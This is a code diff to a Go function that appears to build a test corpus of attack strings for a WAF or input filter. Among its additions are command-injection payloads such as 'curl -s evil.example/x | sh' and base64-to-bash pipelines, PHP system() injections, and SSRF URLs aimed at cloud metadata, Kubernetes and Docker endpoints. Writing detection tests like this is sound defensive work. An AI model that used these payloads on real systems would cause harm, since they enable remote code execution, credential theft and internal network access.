@@ -86,7 +86,7 @@ func grammarAttacks() map[string][]string {
 			m["rce"] = append(m["rce"], "127.0.0.1"+p, "report.pdf"+p)
 		}
 	}
-	m["rce"] = append(m["rce"], "\nid", ";id", "|whoami", "<(cat /etc/hosts)", ">(tee /tmp/x)", "$(cmd)", ":(){ :|:& };:", "f(){ f|f& };f", "{,ip,a}", "/e[t]c/pa[s]swd", "cat /et?/pa??wd",
+	m["rce"] = append(m["rce"], "curl -s evil.example/x | sh", "echo aWQ= | base64 -d | bash", "printf dwssap/cte | rev | sh", "FOR /L %variable IN (1,1,5) DO echo x", "IF 2 GEQ 15 echo big", "\nid", ";id", "|whoami", "<(cat /etc/hosts)", ">(tee /tmp/x)", "$(cmd)", ":(){ :|:& };:", "f(){ f|f& };f", "{,ip,a}", "/e[t]c/pa[s]swd", "cat /et?/pa??wd",
 		"'wh'oami", `w\hoami`, `"w"get evil.example`, "alias x=id;x", "FOR /F %G IN ('dir /b') DO echo %G", "for %i in (*) do type %i",
 		"IF EXIST C:\\boot.ini ECHO found", "if %ERRORLEVEL% NEQ 0 echo x", "cmd /c whoami", "powershell -enc SQBFAFgA", "Invoke-WebRequest http://evil.example/x.ps1")
 
@@ -100,7 +100,7 @@ func grammarAttacks() map[string][]string {
 	for _, f := range []string{"exec", "system", "passthru", "eval", "base64_decode", "phpinfo"} {
 		m["php"] = append(m["php"], "<? "+f+"('id'); ?>", "<?php\t"+f+"($x);", f+"/**/('id')", f+"/*x*/ /*y*/(1)", f+"#c\n('id')", f+"//c\n('id')", f+"\r($x)")
 	}
-	m["php"] = append(m["php"], "@exec('id')", "@system('ls')", "${'a'.'b'}", "$ {'_VAR'}", "[php]echo 1;[/php]", "{php}echo 1;{/php}", "<?=$_GET[0]?>")
+	m["php"] = append(m["php"], "@{[system 'id']}", "$f['x'](1)", "$__('id')", "(system)('id')", "(string){[system][0]}('id')", "_$$ND_FUNC$$_function(){}()", "this.constructor.constructor('return 1')()", "@exec('id')", "@system('ls')", "${'a'.'b'}", "$ {'_VAR'}", "[php]echo 1;[/php]", "{php}echo 1;{/php}", "<?=$_GET[0]?>")
 	// Java process, script-engine and gadget classes, and Fastjson @type.
 	m["java"] = []string{"java.lang.Runtime", "java.lang.ProcessBuilder", "javax.script.ScriptEngineManager", "org.apache.commons.collections.functors.InvokerTransformer", "com.sun.rowset.JdbcRowSetImpl",
 		"org.codehaus.groovy.runtime.MethodClosure", "ognl.OgnlContext", "#_memberAccess[\"allowStaticMethodAccess\"]=true", `{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x"}`, "java.beans.XMLDecoder"}
@@ -113,7 +113,7 @@ func grammarAttacks() map[string][]string {
 
 	// SSRF in fetch-like parameters (sent as "url").
 	m["rfi"] = []string{"http://203.0.113.5/shell.txt", "http://198.51.100.7:8080/x.php", "ftp://203.0.113.9/inc/c99.php?", "http://[2001:db8::1]/r57.txt"}
-	m["ssrf"] = []string{"http://127.0.0.1/", "http://localhost:8080/admin", "http://[::1]/", "http://0x7f000001/", "http://2130706433/", "http://0177.0.0.1/", "http://127.1/", "http://0.0.0.0:22/", "http://10.0.0.5/internal", "http://192.168.1.1/", "http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/computeMetadata/v1/", "gopher://127.0.0.1:6379/_INFO", "dict://127.0.0.1:11211/stat", "http://evil.example@127.0.0.1/", "http://[::ffff:127.0.0.1]/", "http://localtest.me/"}
+	m["ssrf"] = []string{"http://127.0.0.1/", "http://localhost:8080/admin", "http://[::1]/", "http://0x7f000001/", "http://2130706433/", "http://0177.0.0.1/", "http://127.1/", "http://0.0.0.0:22/", "http://10.0.0.5/internal", "http://192.168.1.1/", "http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/computeMetadata/v1/", "gopher://127.0.0.1:6379/_INFO", "dict://127.0.0.1:11211/stat", "http://evil.example@127.0.0.1/", "http://[::ffff:127.0.0.1]/", "http://localtest.me/", "localhost/admin", "127.0.0.1:6379/", "http://kubernetes.default.svc/api", "metadata.google.internal/computeMetadata/v1/", "http://host.docker.internal:2375/containers/json"}
 	return m
 }
 
